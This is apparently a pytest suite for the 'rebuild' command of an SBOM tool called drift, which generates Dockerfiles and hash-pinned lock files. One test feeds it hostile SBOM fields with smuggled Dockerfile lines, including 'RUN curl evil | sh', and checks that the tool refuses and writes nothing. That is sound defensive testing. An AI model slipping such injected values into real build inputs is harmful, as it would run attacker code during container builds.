"""drift rebuild through a real subprocess: files, exit codes, nothing written on refusal."""

from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

import pytest

from tests.conftest import run_drift
from tests.rebuild.helpers import component, golden_doc, reproducible_doc, write


def test_writes_dockerfile_lock_dockerignore_and_run_md(tmp_path):
    sbom = write(tmp_path, reproducible_doc())
    out = tmp_path / "out"
    done = run_drift("rebuild", str(sbom), "-o", str(out))
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == [
        ".dockerignore",
        "Dockerfile",
        "RUN.md",
        "requirements.lock",
    ]
    assert "--require-hashes" in (out / "Dockerfile").read_text()
    assert "RUN.md" not in (out / ".dockerignore").read_text()  # not sent to the build
    tag = "drift-rebuild:" + hashlib.sha256(sbom.read_bytes()).hexdigest()[:12]
    assert f"docker build -t {tag} {out}\n" in (out / "RUN.md").read_text()


def test_unreproducible_is_exit_2_listing_them_and_nothing_written(tmp_path):
    sbom = write(tmp_path, golden_doc())
    out = tmp_path / "out"
    done = run_drift("rebuild", str(sbom), "-o", str(out))
    assert done.returncode == 2
    assert "pypi:driftbom" in done.stderr
    assert "--skip-unreproducible" in done.stderr
    assert not out.exists()


def test_no_resolve_says_so_loudly(tmp_path):
    doc = golden_doc()
    sbom = write(tmp_path, doc)
    out = tmp_path / "out"
    done = run_drift("rebuild", str(sbom), "-o", str(out), "--no-resolve", "--skip-unreproducible")
    assert done.returncode == 0, done.stderr
    assert "pins have no hashes" in done.stderr
    assert "WARNING: some pins have no hashes" in (out / "requirements.lock").read_text()
    assert "--require-hashes" not in (out / "Dockerfile").read_text()


@pytest.mark.parametrize(
    "mutate",
    [
        lambda d: component(d, "pypi:six").update(version="1.0\nRUN curl evil | sh"),
        lambda d: component(d, "pypi:six").update(name="six\nRUN id"),
    ],
)
def test_hostile_sbom_writes_nothing(tmp_path, mutate):
    doc = reproducible_doc()
    mutate(doc)
    sbom = write(tmp_path, doc)
    out = tmp_path / "out"
    out.mkdir()
    done = run_drift("rebuild", str(sbom), "-o", str(out))
    assert done.returncode == 2
    assert done.stderr.startswith("drift: error: pypi:six:")
    assert len(done.stderr.strip().splitlines()) == 1
    assert list(out.iterdir()) == []


def test_bad_sbom_and_missing_parent(tmp_path):
    assert run_drift("rebuild", str(tmp_path / "nope.json")).returncode == 2
    sbom = write(tmp_path, reproducible_doc())
    done = run_drift("rebuild", str(sbom), "-o", str(tmp_path / "a" / "b"))
    assert done.returncode == 2
    assert "does not exist" in done.stderr


@pytest.mark.parametrize("kind", ["file", "name too long"])
def test_an_unusable_output_folder_is_one_line(tmp_path, kind):
    sbom = write(tmp_path, reproducible_doc())
    target = tmp_path / "taken"
    if kind == "file":
        target.write_text("")
    else:
        target = tmp_path / ("y" * 300)
    done = run_drift("rebuild", str(sbom), "--no-resolve", "-o", str(target))
    assert done.returncode == 2
    *warnings, error = done.stderr.splitlines()
    assert all(line.startswith("drift: WARNING: not reproduced: ") for line in warnings)
    expected = "exists and is not a directory" if kind == "file" else "(File name too long)"
    assert error.startswith(f"drift: error: -o {target}: ")
    assert error.endswith(expected)


def test_build_without_engine_is_exit_2(tmp_path):
    sbom = write(tmp_path, reproducible_doc())
    done = run_drift(
        "rebuild",
        str(sbom),
        "-o",
        str(tmp_path / "out"),
        "--build",
        env={"DOCKER_HOST": "unix:///nonexistent/docker.sock"},
    )
    assert done.returncode == 2
    assert "no Docker Engine answers" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.network
def test_real_venv_sbom_pins_every_package_with_a_hash(tmp_path):
    from tests.integration.venvs import make_venv
    from tests.rebuild.test_dockerfile import hadolint

    python = make_venv(tmp_path / "venv", "six==1.16.0", "attrs==23.2.0", "requests==2.32.3")
    sbom = tmp_path / "venv.cdx.json"
    assert (
        run_drift("snapshot", "--python", str(python), "-o", str(sbom), cwd=tmp_path).returncode
        == 0
    )
    out = tmp_path / "out"
    done = run_drift("rebuild", str(sbom), "-o", str(out))
    assert done.returncode == 0, done.stderr
    lock = (out / "requirements.lock").read_text()
    packages = [
        c for c in json.loads(sbom.read_text())["components"] if c["bom-ref"].startswith("pypi:")
    ]
    for comp in packages:
        entry = lock.split(f"{comp['name']}=={comp['version']} \\\n", 1)
        assert len(entry) == 2, comp["name"]
        assert entry[1].lstrip().startswith("--hash=sha256:"), comp["name"]
    hadolint(out / "Dockerfile")


@pytest.mark.network
def test_venv_rebuild_is_verified(tmp_path):
    from tests.integration.venvs import make_venv

    python = make_venv(tmp_path / "venv", "six==1.16.0", "attrs==23.2.0")
    sbom = tmp_path / "venv.cdx.json"
    assert (
        run_drift("snapshot", "--python", str(python), "-o", str(sbom), cwd=tmp_path).returncode
        == 0
    )
    target = tmp_path / "rebuilt"
    done = run_drift(
        "rebuild", str(sbom), "-o", str(tmp_path / "out"), "--venv", str(target), "--verify"
    )
    assert done.returncode == 0, done.stderr + done.stdout
    assert "PASS: no drift" in done.stdout
    assert (target / "bin" / "python").exists()
    occupied = run_drift("rebuild", str(sbom), "-o", str(tmp_path / "out2"), "--venv", str(target))
    assert occupied.returncode == 2
    assert "not empty" in occupied.stderr


@pytest.mark.network
def test_a_uv_venv_rebuilt_with_pip_seeded_verifies_clean(tmp_path):
    """uv venvs have no pip; the rebuild's venv does. Its own tools are not the env's drift."""
    import shutil
    import subprocess

    uv = shutil.which("uv") or str(Path(sys.executable).with_name("uv"))
    venv = tmp_path / "uv-venv"
    subprocess.run([uv, "venv", "-q", "--python", sys.executable, str(venv)], check=True)
    subprocess.run(
        [uv, "pip", "install", "-q", "--python", str(venv / "bin" / "python"), "six==1.16.0"],
        check=True,
        timeout=300,
    )
    sbom = tmp_path / "uv.cdx.json"
    snap = run_drift("snapshot", "--python", str(venv / "bin" / "python"), "-o", str(sbom))
    assert snap.returncode == 0, snap.stderr
    refs = {c["bom-ref"] for c in json.loads(sbom.read_text())["components"]}
    assert "pypi:pip" not in refs
    assert "pypi:six" in refs
    target = tmp_path / "rebuilt"
    done = run_drift(
        "rebuild", str(sbom), "-o", str(tmp_path / "out"), "--venv", str(target), "--verify"
    )
    assert done.returncode == 0, done.stderr + done.stdout
    assert "PASS: no drift" in done.stdout
    assert (target / "bin" / "pip").exists()  # seeded by venv, and not reported


@pytest.mark.network
def test_an_environment_with_a_dependency_conflict_rebuilds_and_verifies(tmp_path):
    """pip allows a conflict (--no-deps); exact pins need no resolution, so it rebuilds as is."""
    from tests.integration.venvs import make_venv, pip_install

    python = make_venv(tmp_path / "venv")
    pip_install(python, "--no-deps", "requests==2.32.3", "urllib3==1.21", "idna==3.7")
    sbom = tmp_path / "venv.cdx.json"
    snap = run_drift("snapshot", "--python", str(python), "-o", str(sbom), cwd=tmp_path)
    assert snap.returncode == 0, snap.stderr
    requests = next(
        c for c in json.loads(sbom.read_text())["components"] if c["bom-ref"] == "pypi:requests"
    )
    broken = [
        p["value"] for p in requests["properties"] if p["name"].endswith("broken-requirement")
    ]
    assert "urllib3<3,>=1.21.1 (1.21 installed)" in broken
    assert "certifi>=2017.4.17 (not installed)" in broken
    target = tmp_path / "rebuilt"
    done = run_drift(
        "rebuild", str(sbom), "-o", str(tmp_path / "out"), "--venv", str(target), "--verify"
    )
    assert done.returncode == 0, done.stderr + done.stdout
    assert "hashes: " in done.stderr
    assert "PASS: no drift" in done.stdout
